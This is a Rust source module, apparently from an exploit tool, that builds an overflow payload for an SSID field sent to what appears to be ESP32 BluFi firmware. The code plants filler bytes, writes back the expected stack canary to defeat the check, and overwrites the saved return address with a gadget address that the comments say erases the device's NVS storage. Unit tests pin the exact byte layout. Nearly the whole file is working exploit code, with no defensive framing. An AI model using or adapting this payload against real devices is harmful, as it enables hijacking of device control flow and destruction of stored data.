//! Overflow payload construction
//!
//! Builds the SSID field that overruns the target's stack buffer. The
//! handler copies the whole field onto a fixed-size frame, so the buffer
//! below reproduces that frame's geometry exactly: filler up to the
//! canary slot, the expected canary word (so the check passes), zero
//! padding up to the saved return address, the gadget address, a short
//! trailer, and filler to the configured total length.
//!
//! One byte out of place and the exploit fails silently - everything
//! here is deterministic and covered by offset-level tests.

/// Reference geometry of the target frame, recovered from the target
/// build under GDB.
pub const DEFAULT_CANARY_OFFSET: usize = 144;
pub const DEFAULT_RETURN_ADDR_OFFSET: usize = 148;
pub const DEFAULT_CANARY: u32 = 0xDEAD_BEEF;

/// `blufi_security_deinit` epilogue in the reference firmware - erases
/// NVS and returns cleanly, so a hit is observable without a crash.
pub const NVS_ERASE_GADGET: u32 = 0x400d_970d;

pub const DEFAULT_TOTAL_LEN: usize = 200;

/// Filler below the canary ('A', easy to spot in the target's logs).
const FILL_BELOW_CANARY: u8 = 0x41;
/// Filler past the chain ('B').
const FILL_TAIL: u8 = 0x42;
const NOP: u8 = 0x90;

/// Stack geometry of the overflowed frame plus the values to plant in it.
///
/// Offsets are relative to the start of the receiving buffer. The canary
/// and gadget address are emitted little-endian; their 4-byte width is
/// fixed by the `u32` type.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OverflowLayout {
    pub offset_to_canary: usize,
    pub offset_to_return_addr: usize,
    /// Expected canary word, written back in place so the check passes.
    pub canary: u32,
    /// Replacement for the saved return address.
    pub gadget_addr: u32,
    /// Bytes appended straight after the gadget address.
    pub rop_trailer: Vec<u8>,
    /// Exact length of the produced buffer.
    pub total_len: usize,
}

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum LayoutError {
    #[error("return address offset {ra} overlaps the canary at {canary}")]
    OffsetsOutOfOrder { canary: usize, ra: usize },

    #[error("total length {total} too short for a chain ending at {needed}")]
    TotalTooShort { total: usize, needed: usize },
}

impl Default for OverflowLayout {
    fn default() -> Self {
        Self {
            offset_to_canary: DEFAULT_CANARY_OFFSET,
            offset_to_return_addr: DEFAULT_RETURN_ADDR_OFFSET,
            canary: DEFAULT_CANARY,
            gadget_addr: NVS_ERASE_GADGET,
            rop_trailer: vec![NOP; 4],
            total_len: DEFAULT_TOTAL_LEN,
        }
    }
}

impl OverflowLayout {
    /// Check the structural invariants: the return-address slot must sit
    /// past the canary word, and the total length must cover the chain.
    pub fn validate(&self) -> Result<(), LayoutError> {
        if self.offset_to_return_addr < self.offset_to_canary + 4 {
            return Err(LayoutError::OffsetsOutOfOrder {
                canary: self.offset_to_canary,
                ra: self.offset_to_return_addr,
            });
        }
        let needed = self.offset_to_return_addr + 4 + self.rop_trailer.len();
        if self.total_len < needed {
            return Err(LayoutError::TotalTooShort {
                total: self.total_len,
                needed,
            });
        }
        Ok(())
    }

    /// Materialize the overflow buffer. Identical layouts always produce
    /// identical bytes.
    pub fn build(&self) -> Result<Vec<u8>, LayoutError> {
        self.validate()?;

        let mut buf = vec![FILL_BELOW_CANARY; self.offset_to_canary];
        buf.extend_from_slice(&self.canary.to_le_bytes());
        buf.resize(self.offset_to_return_addr, 0x00);
        buf.extend_from_slice(&self.gadget_addr.to_le_bytes());
        buf.extend_from_slice(&self.rop_trailer);
        buf.resize(self.total_len, FILL_TAIL);
        Ok(buf)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reference_layout() {
        let buf = OverflowLayout::default().build().unwrap();
        assert_eq!(buf.len(), 200);
        assert!(buf[..144].iter().all(|&b| b == 0x41));
        assert_eq!(&buf[144..148], &[0xef, 0xbe, 0xad, 0xde]);
        assert_eq!(&buf[148..152], &[0x0d, 0x97, 0x0d, 0x40]);
        assert_eq!(&buf[152..156], &[0x90, 0x90, 0x90, 0x90]);
        assert!(buf[156..].iter().all(|&b| b == 0x42));
    }

    #[test]
    fn build_is_deterministic() {
        let layout = OverflowLayout::default();
        assert_eq!(layout.build().unwrap(), layout.build().unwrap());
    }

    #[test]
    fn gap_between_canary_and_return_addr_is_zeroed() {
        let layout = OverflowLayout {
            offset_to_return_addr: 156,
            ..OverflowLayout::default()
        };
        let buf = layout.build().unwrap();
        assert!(buf[148..156].iter().all(|&b| b == 0x00));
        assert_eq!(&buf[156..160], &[0x0d, 0x97, 0x0d, 0x40]);
    }

    #[test]
    fn return_addr_inside_canary_rejected() {
        let layout = OverflowLayout {
            offset_to_return_addr: 146,
            ..OverflowLayout::default()
        };
        assert_eq!(
            layout.build().unwrap_err(),
            LayoutError::OffsetsOutOfOrder { canary: 144, ra: 146 }
        );
    }

    #[test]
    fn short_total_length_rejected() {
        let layout = OverflowLayout {
            total_len: 150,
            ..OverflowLayout::default()
        };
        assert_eq!(
            layout.build().unwrap_err(),
            LayoutError::TotalTooShort { total: 150, needed: 156 }
        );
    }

    #[test]
    fn total_length_equal_to_chain_end_is_accepted() {
        let layout = OverflowLayout {
            total_len: 156,
            ..OverflowLayout::default()
        };
        assert_eq!(layout.build().unwrap().len(), 156);
    }
}
